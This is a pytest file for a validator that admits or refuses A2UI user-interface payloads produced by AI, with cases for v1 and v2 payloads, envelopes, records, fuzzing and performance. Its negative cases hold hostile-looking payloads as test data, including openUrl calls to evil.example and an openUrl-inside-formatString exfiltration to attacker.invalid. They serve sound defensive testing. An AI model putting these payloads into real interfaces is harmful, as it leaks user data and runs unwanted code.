"""PayloadRules: the record/envelope shape and the two ui.a2ui-surface branches, case by case.

Cases mirror openwop-a2ui.md §16b (v2 profile corpus), §16c item 10 (delta frame), §16d
(a2ui-surface-shape) and §2 (envelope shape). Every refusal names its affordance and invariant.
"""

from __future__ import annotations

import copy
import timeit
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.admission.payload_rules import PayloadRules
from app.core.admission.payload_rules_exclusions import EXCLUSIONS
from app.core.admission.refusal import CODES, Violation
from app.core.common.examples import rfc0209_positive_payload
from app.shell.schema_files import load_schema_documents

BASIC = "https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json"
UC = "/envelope/payload/messages/0/updateComponents/components/0"


@pytest.fixture(scope="module")
def rules() -> PayloadRules:
    return PayloadRules.from_documents(load_schema_documents())


# -- fixtures (openwop-a2ui.md §4 "Positive example", §16a, §16b) ------------------------------


def positive() -> dict[str, Any]:
    """The RFC 0209 positive example (openwop-a2ui.md §4)."""
    return rfc0209_positive_payload()


def single(component: dict[str, Any]) -> dict[str, Any]:
    """The openwop-app render-profile wrapping of one component (§16b "Fixture files")."""
    return {
        "version": "v0.9",
        "catalogId": BASIC,
        "surfaceId": "s",
        "messages": [
            {"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [component]}}
        ],
    }


def create(**body: Any) -> dict[str, Any]:
    return {
        "version": "v0.9",
        "catalogId": BASIC,
        "surfaceId": "s",
        "messages": [
            {"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": BASIC, **body}}
        ],
    }


def big(n: int = 512) -> dict[str, Any]:
    comps = positive()["messages"][1]["updateComponents"]["components"]
    return {
        "version": "v0.9",
        "catalogId": BASIC,
        "surfaceId": "s",
        "messages": [
            {
                "version": "v0.9",
                "updateComponents": {
                    "surfaceId": "s",
                    "components": [{**comps[i % len(comps)], "id": f"c{i}"} for i in range(n)],
                },
            }
        ],
    }


V1_ALL_SEVEN = {
    "reasoning": "Collect the kickoff details.",
    "catalogVersion": "0.9.1",
    "surface": {
        "title": "Kickoff",
        "components": [
            {"component": "heading", "text": "Kickoff", "level": 2},
            {"component": "text", "text": "Pick a date and confirm."},
            {
                "component": "field.text",
                "id": "name",
                "label": "Name",
                "placeholder": "Ada",
                "required": True,
            },
            {"component": "field.date", "id": "when", "label": "When", "required": False},
            {
                "component": "field.select",
                "id": "room",
                "label": "Room",
                "required": True,
                "options": [{"value": "a", "label": "A"}, {"value": "b", "label": "B"}],
            },
            {"component": "field.checkbox", "id": "remind", "label": "Remind me", "default": True},
            {
                "component": "action.button",
                "id": "go",
                "label": "Go",
                "action": {"target": "resume"},
            },
        ],
    },
}
V1_SURFACE = {
    "catalogVersion": "0.9.1",
    "surface": {
        "title": "Kickoff",
        "components": [
            {"component": "heading", "text": "Kickoff", "level": 2},
            {
                "component": "action.button",
                "id": "go",
                "label": "Go",
                "action": {"target": "resume"},
            },
        ],
    },
}


def v1_with(component: dict[str, Any]) -> dict[str, Any]:
    return {"catalogVersion": "0.9.1", "surface": {"components": [component]}}


def envelope(**changes: Any) -> dict[str, Any]:
    env: dict[str, Any] = {
        "type": "ui.a2ui-surface",
        "schemaVersion": 2,
        "envelopeId": "env-1",
        "correlationId": "run-1:gate:0:a2ui",
        "nodeId": "gate",
        "payload": positive(),
        "meta": {
            "source": "ai-generation",
            "ts": "2026-11-30T05:00:00Z",
            "contentTrust": "untrusted",
        },
        "partial": {"isPartial": False, "index": 0, "total": 1},
    }
    for key, value in changes.items():
        if value is DROP:
            env.pop(key)
        else:
            env[key] = value
    return env


DROP = object()


def without_source() -> dict[str, Any]:
    env = envelope()
    del env["meta"]["source"]
    return env


# -- the table --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    check: str  # "v1" | "v2" | "envelope" | "record"
    value: Any
    code: str | None = None  # None: valid
    path: str | None = None
    says: tuple[str, ...] = ()
    details: dict[str, Any] = field(default_factory=dict)


def mutate(fn: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    payload = positive()
    fn(payload)
    return payload


def _button(action: Any) -> dict[str, Any]:
    return {"id": "b", "component": "Button", "child": "l", "action": action}


CASES = [
    # §4 positive example and friends
    Case("v2-positive", "v2", positive()),
    Case("v2-exchange-button", "v2", single(_button({"event": {"name": "exchange"}}))),
    # docs/admission.md decision 11: an array literal's items are data unless they are
    # FunctionCall-shaped. Plain data, bindings and nested arrays are admitted...
    Case(
        "v2-array-literal-of-data",
        "v2",
        single(
            _button(
                {
                    "event": {
                        "name": "resume",
                        "context": {
                            "calls": [{"to": "Mom", "minutes": 3}, None, [1, "two", [True]]],
                            "bound": [{"path": "/name"}, "x"],
                        },
                    }
                }
            )
        ),
    ),
    Case(
        "v2-themed-create",
        "v2",
        create(theme={"primaryColor": "#00ff00", "agentDisplayName": "Helper"}),
    ),
    Case(
        "v2-delete",
        "v2",
        {
            "version": "v0.9",
            "catalogId": BASIC,
            "surfaceId": "a:b",
            "messages": [{"version": "v0.9", "deleteSurface": {"surfaceId": "a:b"}}],
        },
    ),
    Case(
        "v2-condition-returnType",
        "v2",
        single(
            {
                "id": "c",
                "component": "CheckBox",
                "label": "OK",
                "value": {"path": "/ok"},
                "checks": [
                    {
                        "condition": {
                            "call": "required",
                            "args": {"value": {"path": "/ok"}},
                            "returnType": "boolean",
                        },
                        "message": "m",
                    }
                ],
            }
        ),
    ),
    # §16b negatives, each naming the excluded affordance and its invariant
    Case(
        "functioncall-openurl",
        "v2",
        single(
            _button({"functionCall": {"call": "openUrl", "args": {"url": "https://evil.example/"}}})
        ),
        "envelope_invalid",
        UC + "/action/functionCall",
        ('Button action uses functionCall "openUrl"', "a2ui-action-confinement"),
        {"affordance": "functionCall", "componentId": "b"},
    ),
    Case(
        "event-name-deleteall",
        "v2",
        single(_button({"event": {"name": "deleteAll"}})),
        "envelope_invalid",
        UC + "/action/event/name",
        ('event name "deleteAll" is not resume or exchange', "a2ui-action-confinement"),
        {"affordance": "event-name"},
    ),
    Case(
        "textfield-obscured",
        "v2",
        single({"id": "t", "component": "TextField", "label": "Password", "variant": "obscured"}),
        "envelope_invalid",
        UC + "/variant",
        ('TextField "t" variant "obscured": excluded', "a2ui-surface-no-secret-input"),
        {"affordance": "obscured", "componentId": "t"},
    ),
    Case(
        "image-component",
        "v2",
        single({"id": "hero", "component": "Image", "url": "https://evil.example/x.png"}),
        "envelope_invalid",
        UC,
        ('component "hero" is an Image: excluded', "a2ui-surface-no-network-egress"),
        {"affordance": "Image", "componentId": "hero"},
    ),
    Case(
        "theme-iconurl",
        "v2",
        create(theme={"iconUrl": "https://evil.example/i.png"}),
        "envelope_invalid",
        "/envelope/payload/messages/0/createSurface/theme/iconUrl",
        ("theme.iconUrl", "a2ui-surface-no-network-egress"),
        {"affordance": "iconUrl"},
    ),
    Case(
        "foreign-catalog",
        "v2",
        mutate(lambda p: p.update(catalogId=BASIC.replace("basic", "other"))),
        "envelope_invalid",
        "/envelope/payload/catalogId",
        ("not the pinned basic catalog", "a2ui-surface-no-code-exec"),
        {"affordance": "foreign-catalog"},
    ),
    Case(
        "foreign-catalog-in-create",
        "v2",
        mutate(
            lambda p: p["messages"][0]["createSurface"].update(
                catalogId=BASIC.replace("basic", "other")
            )
        ),
        "envelope_invalid",
        "/envelope/payload/messages/0/createSurface/catalogId",
        ("not the pinned basic catalog",),
        {"affordance": "foreign-catalog"},
    ),
    Case(
        "extra-property",
        "v2",
        single({"id": "t", "component": "Text", "text": "x", "onClick": "x"}),
        "envelope_invalid",
        UC + "/onClick",
        ('"onClick"', "a2ui-surface-no-code-exec"),
        {"affordance": "extra-property"},
    ),
    Case(
        "formatstring-label",
        "v2",
        single({"id": "t", "component": "Text", "text": {"call": "formatString", "args": {}}}),
        "envelope_invalid",
        UC + "/text",
        ('FunctionCall "formatString"', "a2ui-surface-no-code-exec"),
        {"affordance": "function-value"},
    ),
    # every other excluded affordance, by name
    *(
        Case(
            f"excluded-{name.lower()}",
            "v2",
            single({"id": "x", "component": name}),
            "envelope_invalid",
            UC,
            (f"is {article} {name}: excluded", EXCLUSIONS[name].invariant),
            {"affordance": name, "invariant": EXCLUSIONS[name].invariant},
        )
        for name, article in [
            ("Video", "a"),
            ("AudioPlayer", "an"),
            ("Icon", "an"),
            ("List", "a"),
            ("Tabs", "a"),
            ("Modal", "a"),
            ("Slider", "a"),
        ]
    ),
    Case(
        "send-data-model",
        "v2",
        create(sendDataModel=True),
        "envelope_invalid",
        "/envelope/payload/messages/0/createSurface/sendDataModel",
        ("sendDataModel: excluded", "a2ui-action-confinement"),
        {"affordance": "sendDataModel"},
    ),
    Case(
        "template-children",
        "v2",
        single(
            {"id": "c", "component": "Column", "children": {"componentId": "row", "path": "/items"}}
        ),
        "envelope_invalid",
        UC + "/children",
        ("data-model template", "a2ui-surface-no-code-exec"),
        {"affordance": "template"},
    ),
    Case(
        "nested-call-in-required",
        "v2",
        single(
            {
                "id": "t",
                "component": "TextField",
                "label": "x",
                "checks": [
                    {
                        "condition": {
                            "call": "required",
                            "args": {"value": {"call": "formatString"}},
                        },
                        "message": "m",
                    }
                ],
            }
        ),
        "envelope_invalid",
        UC + "/checks/0/condition/args/value",
        ('nests a call "formatString" inside required', "a2ui-surface-no-code-exec"),
        {"affordance": "nested-call"},
    ),
    Case(
        "condition-calls-email",
        "v2",
        single(
            {
                "id": "t",
                "component": "TextField",
                "label": "x",
                "checks": [
                    {
                        "condition": {"call": "email", "args": {"value": {"path": "/x"}}},
                        "message": "m",
                    }
                ],
            }
        ),
        "envelope_invalid",
        UC + "/checks/0/condition",
        ('calls "email"',),
        {"affordance": "function-value"},
    ),
    Case(
        "call-in-event-context",
        "v2",
        single(_button({"event": {"name": "resume", "context": {"when": {"call": "now"}}}})),
        "envelope_invalid",
        UC + "/action/event/context/when",
        ('FunctionCall "now"', "a2ui-surface-no-code-exec"),
    ),
    # ...but @a2ui/web_core 0.11.0 evaluates every array item holding `call` or `path`
    # (data-context.js "1b. Arrays"): a FunctionCall inside an array literal would run (issue
    # 14 item 1: a click ran window.open through openUrl in a context array).
    Case(
        "call-in-context-array",
        "v2",
        single(
            _button(
                {
                    "event": {
                        "name": "resume",
                        "context": {
                            "x": [
                                {
                                    "call": "openUrl",
                                    "args": {
                                        "url": {
                                            "call": "formatString",
                                            "args": {"value": "https://attacker.invalid/?${/n}"},
                                        }
                                    },
                                }
                            ]
                        },
                    }
                }
            )
        ),
        "envelope_invalid",
        UC + "/action/event/context/x/0",
        ('FunctionCall "openUrl"', "a2ui-surface-no-code-exec"),
        {"affordance": "function-value", "invariant": "a2ui-surface-no-code-exec"},
    ),
    Case(
        "call-shaped-data-in-context-array",
        "v2",
        single(_button({"event": {"name": "resume", "context": {"calls": [{"call": "Mom"}]}}})),
        "envelope_invalid",
        UC + "/action/event/context/calls/0",
        ('FunctionCall "Mom"', "a2ui-surface-no-code-exec"),
        {"affordance": "function-value"},
    ),
    Case(
        "call-deep-in-context-array",
        "v2",
        single(
            _button(
                {
                    "event": {
                        "name": "resume",
                        "context": {"x": [1, [2, [{"a": {"b": [{"call": "now"}]}}]]]},
                    }
                }
            )
        ),
        "envelope_invalid",
        UC + "/action/event/context/x/1/1/0/a/b/0",
        ('FunctionCall "now"', "a2ui-surface-no-code-exec"),
        {"affordance": "function-value"},
    ),
    Case(
        "required-call-in-context-array",
        "v2",
        single(
            _button(
                {
                    "event": {
                        "name": "resume",
                        "context": {"x": [{"call": "required", "args": {"value": {"path": "/n"}}}]},
                    }
                }
            )
        ),
        "envelope_invalid",
        UC + "/action/event/context/x/0",
        ('FunctionCall "required"', "a2ui-surface-no-code-exec"),
        {"affordance": "function-value"},
    ),
    Case(
        "functionCall-in-context-array",
        "v2",
        single(
            _button({"event": {"name": "resume", "context": {"x": [{"functionCall": "openUrl"}]}}})
        ),
        "envelope_invalid",
        UC + "/action/event/context/x/0",
        ("functionCall", "a2ui-surface-no-code-exec"),
        {"affordance": "function-value"},
    ),
    Case(
        "unknown-component",
        "v2",
        single({"id": "f", "component": "iframe", "src": "x"}),
        "envelope_invalid",
        UC,
        ('"iframe": not in the closed catalog',),
        {"affordance": "unknown-component"},
    ),
    Case(
        "text-variant-h6",
        "v2",
        single({"id": "t", "component": "Text", "text": "x", "variant": "h6"}),
        "envelope_invalid",
        UC + "/variant",
        ('component "t" Text', '"h6"'),
    ),
    Case(
        "button-missing-action",
        "v2",
        single({"id": "b", "component": "Button", "child": "l"}),
        "envelope_invalid",
        UC + "/action",
        ('required property "action"',),
    ),
    Case(
        "componentid-with-colon",
        "v2",
        single({"id": "a:b", "component": "Divider"}),
        "envelope_invalid",
        UC + "/id",
    ),
    Case(
        "surfaceid-trailing-newline",
        "v2",
        mutate(lambda p: p.update(surfaceId="approve-brief\n")),
        "envelope_invalid",
        "/envelope/payload/surfaceId",
    ),
    Case(
        "root-extra-property",
        "v2",
        mutate(lambda p: p.update(extra=1)),
        "envelope_invalid",
        "/envelope/payload/extra",
        ('"extra"',),
    ),
    Case(
        "message-extra-property",
        "v2",
        mutate(lambda p: p["messages"][2].update(sendDataModel=True)),
        "envelope_invalid",
        "/envelope/payload/messages/2/sendDataModel",
        ('"sendDataModel"',),
    ),
    Case(
        "message-two-kinds",
        "v2",
        mutate(lambda p: p["messages"][2].update(deleteSurface={"surfaceId": "approve-brief"})),
        "envelope_invalid",
        "/envelope/payload/messages/2",
        ("exactly one of",),
    ),
    Case(
        "no-messages",
        "v2",
        mutate(lambda p: p.update(messages=[])),
        "envelope_invalid",
        "/envelope/payload/messages",
    ),
    Case(
        "65-messages",
        "v2",
        mutate(lambda p: p.update(messages=p["messages"][2:] * 65)),
        "envelope_invalid",
        "/envelope/payload/messages",
    ),
    Case(
        "513-components",
        "v2",
        big(513),
        "envelope_invalid",
        "/envelope/payload/messages/0/updateComponents/components",
    ),
    Case(
        "datamodel-relative-path",
        "v2",
        mutate(lambda p: p["messages"][2]["updateDataModel"].update(path="name")),
        "envelope_invalid",
        "/envelope/payload/messages/2/updateDataModel/path",
    ),
    Case(
        "escaped-pointer",
        "v2",
        single(
            {
                "id": "b",
                "component": "Button",
                "child": "l",
                "action": {"event": {"name": "resume", "context": {"a/b~c": {"call": "x"}}}},
            }
        ),
        "envelope_invalid",
        UC + "/action/event/context/a~1b~0c",
    ),
    Case(
        "not-an-object",
        "v2",
        [positive()],
        "envelope_invalid",
        "/envelope/payload",
        ("not an array",),
    ),
    # §1 / RFC 0209 §A.1: version selects exactly one branch, both ways
    Case(
        "v1-body-under-v2",
        "v2",
        V1_SURFACE,
        "envelope_invalid",
        "/envelope/payload",
        ("this is a v1 payload (catalogVersion/surface), not the v2 payload",),
    ),
    Case(
        "v2-body-under-v1",
        "v1",
        positive(),
        "envelope_invalid",
        "/envelope/payload",
        ("this is a v2 payload", "selects the v1 branch"),
    ),
    # §16d a2ui-surface-shape
    Case("v1-all-seven", "v1", V1_ALL_SEVEN),
    Case("v1-surface", "v1", V1_SURFACE),
    Case("v1-empty-components", "v1", {"catalogVersion": "0.9.1", "surface": {"components": []}}),
    Case(
        "v1-exchange-button",
        "v1",
        v1_with(
            {
                "component": "action.button",
                "id": "go",
                "label": "Go",
                "action": {"target": "exchange"},
            }
        ),
    ),
    Case(
        "v1-missing-catalogversion",
        "v1",
        {"surface": {"components": []}},
        "envelope_invalid",
        "/envelope/payload/catalogVersion",
        ('"catalogVersion"',),
    ),
    Case(
        "v1-missing-surface",
        "v1",
        {"catalogVersion": "0.9.1"},
        "envelope_invalid",
        "/envelope/payload/surface",
        ('"surface"',),
    ),
    Case(
        "v1-catalog-9.9.9",
        "v1",
        {"catalogVersion": "9.9.9", "surface": {"components": []}},
        "unknown_schema_version",
        "/envelope/payload/catalogVersion",
        ('"9.9.9" is not supported',),
        {"rule": "catalog-version"},
    ),
    Case(
        "v1-iframe",
        "v1",
        v1_with({"component": "iframe", "src": "https://evil.example"}),
        "envelope_invalid",
        "/envelope/payload/surface/components/0",
        ('"iframe": not in the closed catalog', "a2ui-surface-no-code-exec"),
    ),
    Case(
        "v1-heading-onclick",
        "v1",
        v1_with({"component": "heading", "text": "Hi", "onClick": "alert(1)"}),
        "envelope_invalid",
        "/envelope/payload/surface/components/0/onClick",
        ('heading 0 has property "onClick"',),
    ),
    Case(
        "v1-target-url",
        "v1",
        v1_with(
            {
                "component": "action.button",
                "id": "go",
                "label": "Go",
                "action": {"target": "http://evil.example"},
            }
        ),
        "envelope_invalid",
        "/envelope/payload/surface/components/0/action/target",
        ('target "http://evil.example" is not resume or exchange', "a2ui-action-confinement"),
    ),
    Case(
        "v1-action-extra-url",
        "v1",
        v1_with(
            {
                "component": "action.button",
                "id": "go",
                "label": "Go",
                "action": {"target": "resume", "url": "https://evil.example"},
            }
        ),
        "envelope_invalid",
        "/envelope/payload/surface/components/0/action/url",
        ('action has "url"', "a2ui-action-confinement"),
    ),
    Case(
        "v1-select-no-options",
        "v1",
        v1_with({"component": "field.select", "id": "s", "label": "S", "options": []}),
        "envelope_invalid",
        "/envelope/payload/surface/components/0/options",
    ),
    # §16c item 10: a delta frame is not a v1 payload
    Case(
        "v1-delta-frame",
        "v1",
        {
            "surfaceRef": "evt_9",
            "catalogVersion": "0.9.1",
            "patch": [{"op": "replace", "path": "/surface/components/1/text", "value": "Done"}],
        },
        "envelope_invalid",
        "/envelope/payload",
        ("delta frame",),
    ),
    # §2 envelope shape
    Case("envelope-valid", "envelope", envelope()),
    Case(
        "envelope-minimal",
        "envelope",
        envelope(
            schemaVersion=DROP,
            nodeId=DROP,
            partial=DROP,
            meta={"source": "user", "ts": "2026-11-30T05:00:00+01:00"},
        ),
    ),
    Case("envelope-payload-null", "envelope", envelope(payload=None)),
    Case(
        "missing-correlationid",
        "envelope",
        envelope(correlationId=DROP),
        "validation_error",
        "/envelope/correlationId",
        ('"correlationId"',),
    ),
    Case(
        "missing-meta-source",
        "envelope",
        without_source(),
        "validation_error",
        "/envelope/meta/source",
        ('"source"',),
    ),
    Case(
        "partial-boolean",
        "envelope",
        envelope(partial=True),
        "validation_error",
        "/envelope/partial",
    ),
    Case(
        "bad-nodeid", "envelope", envelope(nodeId="gate/1"), "validation_error", "/envelope/nodeId"
    ),
    Case(
        "bad-ts",
        "envelope",
        envelope(meta={"source": "user", "ts": "yesterday"}),
        "validation_error",
        "/envelope/meta/ts",
    ),
    Case(
        "envelope-extra", "envelope", envelope(secret="x"), "validation_error", "/envelope/secret"
    ),
    Case("envelope-not-object", "envelope", "ui.a2ui-surface", "validation_error", "/envelope"),
    # the admission record
    Case("record-valid", "record", {"runId": "run-1", "envelope": envelope()}),
    Case("record-missing-runid", "record", {"envelope": envelope()}, "validation_error", "/runId"),
    Case(
        "record-empty-runid",
        "record",
        {"runId": "", "envelope": envelope()},
        "validation_error",
        "/runId",
    ),
    Case(
        "record-extra",
        "record",
        {"runId": "r", "envelope": envelope(), "secrets": []},
        "validation_error",
        "/secrets",
    ),
    Case(
        "record-envelope-source",
        "record",
        {"runId": "r", "envelope": without_source()},
        "validation_error",
        "/envelope/meta/source",
    ),
    Case("record-not-object", "record", [], "validation_error", ""),
]


def run(rules: PayloadRules, check: str, value: Any) -> Violation | None:
    method: Callable[[Any], Violation | None] = {
        "v1": rules.check_v1,
        "v2": rules.check_v2,
        "envelope": rules.check_envelope,
        "record": rules.check_record,
    }[check]
    return method(value)


def test_case_names_are_unique() -> None:
    names = [case.name for case in CASES]
    assert len(names) == len(set(names))


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_case(rules: PayloadRules, case: Case) -> None:
    violation = run(rules, case.check, copy.deepcopy(case.value))
    if case.code is None:
        assert violation is None, violation
        return
    assert violation is not None
    assert violation.code == case.code
    assert violation.path == case.path
    if case.check in ("v1", "v2") and case.code == "envelope_invalid":
        assert violation.rule == "branch" and violation.details["rule"] == "branch"
    if case.check in ("envelope", "record"):
        assert violation.rule == "envelope-shape"
    for words in case.says:
        assert words in violation.message, violation.message
    for key, value in case.details.items():
        assert violation.details[key] == value, violation.details
    if "affordance" in violation.details:  # the message names the invariant it protects
        invariant = EXCLUSIONS[violation.details["affordance"]].invariant
        assert violation.details["invariant"] == invariant
        assert f"({invariant})" in violation.message


def test_checks_do_not_mutate_their_input(rules: PayloadRules) -> None:
    for case in CASES:
        value = copy.deepcopy(case.value)
        run(rules, case.check, value)
        assert value == case.value, case.name


def test_every_exclusion_has_a_named_invariant() -> None:
    invariants = {
        "a2ui-surface-no-code-exec",
        "a2ui-action-confinement",
        "a2ui-surface-no-network-egress",
        "a2ui-surface-no-secret-input",
    }
    assert {e.invariant for e in EXCLUSIONS.values()} == invariants
    assert all(e.reason for e in EXCLUSIONS.values())


def test_missing_document_is_refused_at_boot() -> None:
    documents = load_schema_documents()
    del documents["a2ui-surface-v2-profile"]
    with pytest.raises(ValueError, match="a2ui-surface-v2-profile"):
        PayloadRules.from_documents(documents)


def test_long_values_are_not_echoed_in_full(rules: PayloadRules) -> None:
    violation = rules.check_v2(single(_button({"event": {"name": "x" * 10_000}})))
    assert violation is not None and len(violation.message) < 400


# -- never raises (STYLE rule 3) ----------------------------------------------------------------

JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=12), children, max_size=5)
    ),
    max_leaves=40,
)
# JSON values that sit close to the real shapes, so the diagnosis walks deep into them.
KEYS = st.sampled_from(
    [
        "version",
        "catalogId",
        "surfaceId",
        "messages",
        "createSurface",
        "updateComponents",
        "components",
        "component",
        "id",
        "action",
        "event",
        "name",
        "functionCall",
        "call",
        "args",
        "value",
        "checks",
        "condition",
        "children",
        "theme",
        "catalogVersion",
        "surface",
        "target",
        "path",
    ]
)
NEAR = st.recursive(
    st.sampled_from(
        [
            None,
            True,
            0,
            1.5,
            "v0.9",
            BASIC,
            "s",
            "Text",
            "Button",
            "Image",
            "resume",
            "required",
            "/x",
            "0.9.1",
            "heading",
            "action.button",
        ]
    ),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(KEYS, children, max_size=6),
    max_leaves=60,
)


def _assert_value(result: Violation | None) -> None:
    assert result is None or (isinstance(result, Violation) and result.code in CODES)
    if result is not None:
        assert result.path == "" or result.path.startswith("/")
        orjson.dumps(result.to_dict())  # a refusal is always serializable


@settings(max_examples=300, deadline=None)
@given(value=JSON | NEAR)
def test_any_json_never_raises(rules: PayloadRules, value: Any) -> None:
    for check in ("v1", "v2", "envelope", "record"):
        _assert_value(run(rules, check, value))
    _assert_value(rules.check_record({"runId": "r", "envelope": value}))
    _assert_value(
        rules.check_v2(
            {"version": "v0.9", "catalogId": BASIC, "surfaceId": "s", "messages": [value]}
        )
    )
    _assert_value(rules.check_v2(single(value)))
    _assert_value(rules.check_v1({"catalogVersion": "0.9.1", "surface": {"components": [value]}}))


@settings(max_examples=150, deadline=None)
@given(
    component=st.dictionaries(KEYS, NEAR, max_size=6),
    name=st.sampled_from(
        [
            "Text",
            "TextField",
            "CheckBox",
            "ChoicePicker",
            "DateTimeInput",
            "Button",
            "Column",
            "Row",
            "Card",
            "Divider",
            "Image",
            "Tabs",
            "x",
        ]
    ),
)
def test_near_components_never_raise(
    rules: PayloadRules, component: dict[str, Any], name: str
) -> None:
    _assert_value(rules.check_v2(single({**component, "id": "c", "component": name})))


def test_deep_and_huge_inputs(rules: PayloadRules) -> None:
    deep: Any = "leaf"
    for _ in range(1000):
        deep = {"call": "x", "args": {"value": deep}}
    nested = single({"id": "t", "component": "Text", "text": "x", "accessibility": deep})
    _assert_value(rules.check_v2(nested))
    _assert_value(
        rules.check_v2(
            single(
                {
                    "id": "t",
                    "component": "TextField",
                    "label": "x",
                    "checks": [{"condition": deep, "message": "m"}],
                }
            )
        )
    )
    _assert_value(rules.check_v2(orjson.loads(b"[" * 1000 + b"]" * 1000)))
    huge = big(512)
    huge["messages"] = huge["messages"] * 200
    violation = rules.check_v2(huge)
    assert violation is not None and violation.path == "/envelope/payload/messages"
    _assert_value(
        rules.check_v1(
            {
                "catalogVersion": "0.9.1",
                "surface": {"components": [{"component": "text", "text": 1}] * 100_000},
            }
        )
    )


# -- performance (openwop-a2ui.md budget: p50 <= 20 us positive, <= 300 us at 512 components) ---


def _per_call(fn: Callable[[], object], number: int) -> float:
    return min(timeit.repeat(fn, number=number, repeat=7)) / number


def test_valid_path_is_fast(rules: PayloadRules) -> None:
    pos, many = positive(), big(512)
    assert rules.check_v2(pos) is None and rules.check_v2(many) is None
    small = _per_call(lambda: rules.check_v2(pos), 2000)
    large = _per_call(lambda: rules.check_v2(many), 50)
    print(f"check_v2 positive {small * 1e6:.1f} us; 512 components {large * 1e6:.1f} us")
    # Generous ceilings (3x the budget) so a loaded CI box does not flake; the bench in the
    # admission suite holds the real budget.
    assert small < 60e-6
    assert large < 900e-6
